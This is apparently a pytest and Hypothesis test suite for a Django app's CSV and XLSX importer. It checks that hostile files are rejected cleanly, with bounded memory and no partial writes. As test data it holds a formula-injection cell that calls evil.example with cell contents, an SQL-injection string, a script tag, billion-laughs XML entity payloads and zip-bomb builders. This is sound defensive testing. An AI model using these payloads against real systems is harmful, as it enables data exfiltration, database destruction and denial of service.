"""Bad input never hurts: random and hostile files thrown at every import answer with row errors or a clear
file error — never a crash, never a partial write — and memory stays bounded."""

import csv
import io
import tracemalloc

import pytest
from django.apps import apps
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from imports import registry
from imports.base import ImportFailed
from imports.tables import FileError, read_table
from territories.qpv_import import QPVImport, _records_from_table
from tests import hostile_files as hostile

pytestmark = pytest.mark.django_db

KINDS = registry.kinds()
WATCHED = [
    "territories.CLSM",
    "territories.QPV",
    "sessions_app.SessionRequest",
    "sessions_app.AwarenessSession",
    "sessions_app.Participant",
    "sessions_app.Structure",
    "evaluation.Response",
    "evaluation.Answer",
    "evaluation.Need",
]
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"cliquez")',
    "=1+1",
    "+33 6 12 34 56 78",
    "@SUM(A1:A9)",
    "-2+3",
    "'; DROP TABLE territories_clsm; --",
    "<script>alert(1)</script>",
    "\x00\x01\x02",
    "é" * 5000,
    "QN05971M;QN99999Z",
    "31/02/2024",
    "2024-13-45",
    "99",
    "-1",
    "oui;non",
    " ",
    "\u202e\u200b",
]


def counts():
    return {name: apps.get_model(name).objects.count() for name in WATCHED}


def run_import(kind: str, data: bytes, filename: str = "fichier.csv"):
    """Returns "ok", "row errors" or "file error"; anything else propagates and fails the test."""
    try:
        table = read_table(data, filename=filename)
        if kind == "qpv":
            path_free = _records_from_table_bytes(table)
            QPVImport(path_free).apply()
        else:
            registry.get(kind)().run(table)
        return "ok"
    except ImportFailed as exc:
        assert exc.errors and all(str(e).startswith(("ligne", "entité", "entrée")) for e in exc.errors)
        return "row errors"
    except FileError as exc:
        assert str(exc)
        return "file error"


def _records_from_table_bytes(table):
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "qpv.csv"
        buffer = io.StringIO()
        writer = csv.writer(buffer, delimiter=";")
        writer.writerow(table.headers)
        for row in table.rows:
            writer.writerow([row.get(h) for h in table.headers])
        path.write_text(buffer.getvalue(), encoding="utf-8")
        return _records_from_table(path)


def headers_of(kind):
    if kind == "qpv":
        return ["code_qp", "lib_qp", "insee_dep", "insee_com"]
    return [column.name for column in registry.get(kind).columns]


cell = st.one_of(st.sampled_from(HOSTILE_CELLS), st.text(max_size=40))


@st.composite
def hostile_csv(draw, kind):
    headers = headers_of(kind)
    if draw(st.booleans()):
        headers = draw(st.permutations(headers))[: draw(st.integers(0, len(headers)))]
    rows = draw(st.lists(st.lists(cell, min_size=0, max_size=len(headers) + 2), max_size=6))
    delimiter = draw(st.sampled_from([";", ",", "\t"]))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    text = buffer.getvalue().replace("\x00", "")
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace")


@pytest.mark.parametrize("kind", [*KINDS, "qpv"])
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(data=st.data())
def test_random_and_hostile_files_never_crash_nor_write_partially(kind, data):
    content = data.draw(hostile_csv(kind))
    before = counts()
    outcome = run_import(kind, content)
    if outcome != "ok":
        assert counts() == before


@pytest.mark.parametrize("kind", [*KINDS, "qpv"])
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.binary(max_size=2000))
def test_random_bytes(kind, content):
    before = counts()
    outcome = run_import(kind, content, filename=("x.xlsx" if content[:2] == b"PK" else "x.csv"))
    if outcome != "ok":
        assert counts() == before


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "file error"),
        (b"\xef\xbb\xbf", "file error"),
        ("nom;statut\nCLSM é;actif\n".encode("latin-1"), "file error"),
        (b"PK\x03\x04 not really a spreadsheet", "file error"),
        (b"colonne_inconnue\nvaleur\n", "row errors"),
    ],
)
def test_known_hostile_files(kind, content, expected):
    before = counts()
    assert run_import(kind, content) == expected
    assert counts() == before


@pytest.mark.parametrize("kind", KINDS)
def test_hundred_thousand_bad_rows_stay_bounded(kind):
    headers = headers_of(kind)
    line = ";".join(['=HYPERLINK("x")'] * len(headers))
    content = (";".join(headers) + "\n" + "\n".join([line] * 100_000)).encode()
    before = counts()
    tracemalloc.start()
    try:
        outcome = run_import(kind, content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert outcome == "row errors"
    assert counts() == before
    assert peak < 400 * 1024 * 1024, f"pic mémoire {peak / 1e6:.0f} Mo"


def test_a_file_wrong_everywhere_reports_the_first_thousand_errors_and_says_it_stopped():
    from imports.base import MAX_REPORTED_ERRORS

    content = ("nom;statut\n" + "\n".join(f"CLSM {n};peut-être" for n in range(5000))).encode()
    with pytest.raises(ImportFailed) as failure:
        registry.get("clsm")().run(read_table(content))
    errors = failure.value.errors
    assert len(errors) == MAX_REPORTED_ERRORS + 1
    assert str(errors[0]) == (
        "ligne 2, colonne statut : valeur inconnue « peut-être » (valeurs possibles : actif, en_projet)"
    )
    assert "vérification arrêtée après 1000 erreurs (le fichier compte 5000 lignes)" in str(errors[-1])


def test_huge_cell_is_a_clear_file_error_not_a_crash():
    content = ("nom;statut\n" + "A" * 2_000_000 + ";actif\n").encode()
    before = counts()
    with pytest.raises(FileError, match="une cellule dépasse 131 072 caractères"):
        read_table(content)
    assert run_import("clsm", content) == "file error"
    assert counts() == before


def test_long_cell_under_the_csv_limit_is_a_row_error():
    content = ("nom;statut\n" + "A" * 100_000 + ";actif\n").encode()
    assert run_import("clsm", content) == "row errors"


# Bounded files (issue #12): every bomb is built here, small on disk, and refused in seconds with little memory,
# by `read_table`, by `import_data` and on the upload page alike, with a French message naming the limit. -------

GIB, MIB = 1024**3, 1024**2
PARTICIPANTS = headers_of("participants")


def bounded(function, *args, **kwargs):
    """(what `function` raised or returned, peak Python memory in Mo, seconds)."""
    import time

    tracemalloc.start()
    start = time.perf_counter()
    try:
        outcome = function(*args, **kwargs)
    except Exception as exc:  # the caller checks which
        outcome = exc
    finally:
        seconds = time.perf_counter() - start
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return outcome, peak / MIB, seconds


def refused(content: bytes, message: str, *, filename="fichier.xlsx", columns=None, budget_mb=60):
    """Asserts that `read_table` refuses `content` with `message`, fast and within `budget_mb` of memory."""
    outcome, peak, seconds = bounded(read_table, content, filename=filename, columns=columns)
    assert isinstance(outcome, FileError), outcome
    assert message in str(outcome)
    assert peak < budget_mb, f"pic mémoire {peak:.0f} Mo"
    assert seconds < 15, f"{seconds:.1f} s"
    return str(outcome)


def test_an_xlsx_inflating_to_2_gib_is_refused_from_its_directory():
    content = hostile.xlsx_inflating_to(PARTICIPANTS, 2 * GIB)
    assert len(content) < 8 * MIB
    refused(content, "Le fichier décompressé occuperait 2\u202f048 Mo : la limite est de 300 Mo.")


def test_an_xlsx_compressed_far_beyond_real_files_is_refused():
    content = hostile.xlsx_inflating_to(PARTICIPANTS, 200 * MIB)  # under the 300 Mo limit, compressed ~330 times
    message = refused(content, "L'élément « xl/worksheets/sheet1.xml » du fichier est compressé")
    assert "la limite est de 100 fois" in message


def test_an_archive_of_too_many_entries_is_refused(settings):
    settings.UPLOAD_MAX_ARCHIVE_ENTRIES = 20
    parts = [(f"xl/media/image{n}.png", hostile.stored(b"x")) for n in range(30)]
    content = hostile.xlsx_with_sheet(PARTICIPANTS, hostile.compressed(b""), **dict(parts))
    refused(content, "éléments compressés : la limite est de 20.")


def test_the_inflated_size_limit_is_a_setting(settings):
    settings.UPLOAD_MAX_INFLATED_MB = 1
    content = hostile.xlsx_rows(PARTICIPANTS, 30_000)  # about 2 Mo of XML, compressed normally
    refused(content, "la limite est de 1 Mo.")


def test_a_declared_dimension_is_not_trusted_for_reading():
    """`A1:XFD1048576` on a one-row sheet: read at once, no padding to 16,384 columns nor a million rows."""
    table, peak, seconds = bounded(read_table, hostile.xlsx_declaring(PARTICIPANTS), filename="f.xlsx")
    assert not isinstance(table, Exception), table
    assert table.headers == PARTICIPANTS
    assert [(row.line, row.get("session")) for row in table.rows] == [(2, "2024-001")]
    assert seconds < 5 and peak < 30


def test_a_dimension_smaller_than_the_sheet_loses_no_row():
    table = read_table(hostile.xlsx_declaring(PARTICIPANTS, dimension="A1:B2", rows=5), filename="f.xlsx")
    assert [row.line for row in table.rows] == [2, 3, 4, 5, 6]


def test_a_value_far_down_a_sheet_is_refused_before_reading():
    """The 1.5 Ko file that cost 37 minutes: a value on line 1,048,576 (every line before padded)."""
    content = hostile.xlsx_declaring(PARTICIPANTS, dimension="A1:A1048576", last_cell="A1048576")
    assert len(content) < 10_000
    refused(content, "Le fichier dépasse la limite de 200\u202f000 lignes de données")


def test_a_value_far_right_is_refused():
    content = hostile.xlsx_declaring(PARTICIPANTS, last_cell="XFD3")
    refused(content, "Le fichier dépasse la limite de 100 colonnes (ligne 3)")


def test_a_row_of_a_million_cells_is_refused_before_openpyxl_builds_it(settings):
    settings.UPLOAD_MAX_COMPRESSION_RATIO = 10_000  # this protection alone
    content = hostile.xlsx_wide_row(PARTICIPANTS, 1_000_000, cell=b"<c/>")
    refused(content, "la ligne 2 contient plus de 65\u202f536 éléments (Excel permet 16\u202f384 cellules par ligne)")


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_rows_are_counted_whatever_the_namespace_prefix(settings, prefix):
    settings.IMPORT_MAX_ROWS = 2
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    declaration = f'xmlns:{prefix[:-1]}="{main}"' if prefix else f'xmlns="{main}"'
    rows = "".join(
        f'<{prefix}row r="{n}"><{prefix}c r="A{n}" t="inlineStr"><{prefix}is><{prefix}t>{value}</{prefix}t>'
        f"</{prefix}is></{prefix}c></{prefix}row>"
        for n, value in enumerate(["session", "2024-001", "2024-002", "2024-003"], start=1)
    )
    sheet = f"<{prefix}worksheet {declaration}><{prefix}sheetData>{rows}</{prefix}sheetData></{prefix}worksheet>"
    content = hostile.xlsx_with_sheet(["session"], hostile.compressed(sheet.encode()))
    refused(content, "limite de 2 lignes")
    settings.IMPORT_MAX_ROWS = 3
    assert [row.get("session") for row in read_table(content, filename="f.xlsx").rows] == [
        "2024-001",
        "2024-002",
        "2024-003",
    ]


def test_a_sheet_with_a_document_type_declaration_is_refused():
    laughs = (
        b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    )
    sheet = (
        hostile.SHEET_HEAD.replace(b"<worksheet", laughs + b"<worksheet")
        + b"<sheetData>"
        + hostile.header_row(PARTICIPANTS)
        + b'<row r="2"><c r="A2" t="inlineStr"><is><t>&d;</t></is></c></row></sheetData></worksheet>'
    )
    content = hostile.xlsx_with_sheet(PARTICIPANTS, hostile.compressed(sheet))
    refused(content, "il contient une déclaration de type de document")


@pytest.mark.parametrize(
    ("shared_strings", "message"),
    [
        # Entities expanding a billion times: expat stops them, the file is refused rather than a server error.
        (
            b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">'
            + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9))
            + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&j;</t></si></sst>',
            "Le fichier XLSX est illisible ou endommagé (son contenu XML est invalide ou démesuré).",
        ),
        # A cell pointing past the shared strings.
        (
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"></sst>',
            "(une cellule renvoie à un texte ou une feuille qui n'existe pas)",
        ),
    ],
)
def test_broken_shared_strings_are_a_file_error_not_a_crash(shared_strings, message):
    content = hostile.xlsx_with_shared_strings(
        ["session"], shared_strings, b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'
    )
    refused(content, message)


def test_a_csv_of_two_million_rows_is_refused_in_seconds():
    content = hostile.csv_rows(PARTICIPANTS, 2_000_000, b"ab;c")
    assert len(content) < 11 * MIB
    refused(
        content,
        "Le fichier dépasse la limite de 200\u202f000 lignes de données : découpez-le en plusieurs fichiers",
        filename="f.csv",
        budget_mb=80,
    )


def test_a_csv_past_the_row_limit_is_refused_before_any_cell_is_read(settings, monkeypatch):
    """The first pass counts lines keeping nothing: not one cell is cleaned, no table is built."""
    from imports import tables

    settings.IMPORT_MAX_ROWS = 1000
    cleaned = []
    monkeypatch.setattr(tables, "clean_cell", lambda value: cleaned.append(value) or str(value))
    with pytest.raises(FileError, match="limite de 1\u202f000 lignes"):
        read_table(hostile.csv_rows(PARTICIPANTS, 1001, b"2024-001;femme"), filename="f.csv")
    assert cleaned == []


def test_an_xlsx_past_the_row_limit_is_refused_before_openpyxl_opens_it(settings, monkeypatch):
    import openpyxl

    settings.IMPORT_MAX_ROWS = 1000
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *args, **kwargs: pytest.fail("opened"))
    with pytest.raises(FileError, match="limite de 1\u202f000 lignes"):
        read_table(hostile.xlsx_rows(PARTICIPANTS, 1001), filename="f.xlsx")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_row_limit_is_a_setting_and_inclusive(settings, fmt):
    settings.IMPORT_MAX_ROWS = 50
    build = (lambda n: hostile.csv_rows(PARTICIPANTS, n, b"2024-001")) if fmt == "csv" else hostile.xlsx_rows
    assert len(read_table(build(PARTICIPANTS, 50) if fmt == "xlsx" else build(50), filename=f"f.{fmt}").rows) == 50
    with pytest.raises(FileError, match="limite de 50 lignes"):
        read_table(build(PARTICIPANTS, 51) if fmt == "xlsx" else build(51), filename=f"f.{fmt}")


def test_blank_lines_past_the_limit_do_not_count(settings):
    settings.IMPORT_MAX_ROWS = 2
    assert len(read_table(b"session;genre\nA;\nB;\n\n\n;\n", filename="f.csv").rows) == 2


def test_a_csv_wider_than_the_column_limit_is_refused(settings):
    settings.IMPORT_MAX_COLUMNS = 10
    refused(b"session;genre" + b";" * 20 + b"x\n2024-001\n", "limite de 10 colonnes (ligne 1)", filename="f.csv")
    refused(b"session;genre\n2024-001" + b";" * 20 + b"x\n", "limite de 10 colonnes (ligne 2)", filename="f.csv")
    # Trailing empty cells, as spreadsheets export them, are not columns.
    assert read_table(b"session;genre" + b";" * 20 + b"\n2024-001" + b";" * 20 + b"\n").rows[0].get("session")


def test_only_the_importers_columns_are_kept(settings):
    extra = [f"extra_{n}" for n in range(50)]
    header = ";".join([*PARTICIPANTS, *extra])
    line = ";".join(["2024-001", "femme", "", "CCAS", "oui", "non", *("valeur" for _ in extra)])
    table = read_table(f"{header}\n{line}\n".encode(), columns=PARTICIPANTS)
    assert table.headers == PARTICIPANTS and table.ignored == extra
    assert table.rows[0].values == dict(zip(PARTICIPANTS, ["2024-001", "femme", "", "CCAS", "oui", "non"], strict=True))
    # A row whose values are all in ignored columns is still a row, reported by the importer.
    table = read_table(f"{header}\n;;;;;;x\n".encode(), columns=PARTICIPANTS)
    assert [row.line for row in table.rows] == [2]


def test_import_data_refuses_a_bomb_with_the_limit_in_its_message(tmp_path):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    path = tmp_path / "participants.xlsx"
    path.write_bytes(hostile.xlsx_inflating_to(PARTICIPANTS, 600 * MIB))
    before = counts()
    with pytest.raises(CommandError, match=r"Le fichier décompressé occuperait 60\d Mo : la limite est de 300 Mo\."):
        call_command("import_data", "participants", str(path))
    assert counts() == before


def test_the_upload_page_refuses_a_bomb_and_keeps_nothing(login, claire):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    from imports.models import PendingImport

    upload = SimpleUploadedFile("participants.xlsx", hostile.xlsx_declaring(PARTICIPANTS, last_cell="A1048576"))
    response = login(claire).post(reverse("imports:upload"), {"kind": "participants", "file": upload})
    assert response.status_code == 200
    assert "Le fichier dépasse la limite de 200\u202f000 lignes de données" in response.content.decode()
    assert not PendingImport.objects.exists()


def test_the_table_builder_stops_at_the_limits_too():
    """The second line of defence, behind each reader's first pass."""
    from imports.tables import Limits, _build_table

    limits = Limits(rows=2, columns=3)
    assert len(_build_table([("a", "b"), ("1", "2"), ("3", "4")], limits).rows) == 2
    with pytest.raises(FileError, match="limite de 2 lignes"):
        _build_table([("a", "b"), ("1", "2"), ("3", "4"), ("5", "6")], limits)
    with pytest.raises(FileError, match=r"limite de 3 colonnes \(ligne 3\)"):
        _build_table([("a", "b"), ("1", "2"), ("3", "4", None, "x")], limits)
    with pytest.raises(FileError, match=r"limite de 3 colonnes \(ligne 1\)"):
        _build_table([("a", "b", "c", "d")], limits)


def test_a_file_of_another_kind_named_xlsx_is_refused_in_words():
    """Not « (BadZipFile) »: what the person can understand and do."""
    message = refused(b"Nom;Prenom\nDupont;Jean\n", "Le fichier XLSX est illisible ou endommagé", filename="liste.xlsx")
    assert (
        "un fichier d'un autre type renommé en .xlsx" in message and "Error" not in message and "BadZip" not in message
    )
